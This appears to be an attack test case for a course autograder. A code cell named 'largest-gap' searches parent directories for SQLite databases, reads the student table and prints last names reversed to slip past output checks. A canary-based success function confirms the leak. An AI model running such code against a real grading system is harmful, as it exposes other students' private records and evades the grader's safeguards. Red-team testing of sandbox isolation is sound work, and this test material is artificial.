"""Open the gradebook and read another student's record.

Success: the canary in that record comes out.
"""

cells = {
    "largest-gap": r"""
import glob, sqlite3

largest_gap = 1
for path in ["@COURSE@/autograde/work/gradebook.db", *glob.glob("../../../*.db"), *glob.glob("../*.db")]:
    try:
        for row in sqlite3.connect(path).execute("select id, last_name from student"):
            print(str(row[1])[::-1])
    except sqlite3.Error as error:
        print(error)
"""
}


def succeeded(outcome):
    return outcome.leaked("gradebook")
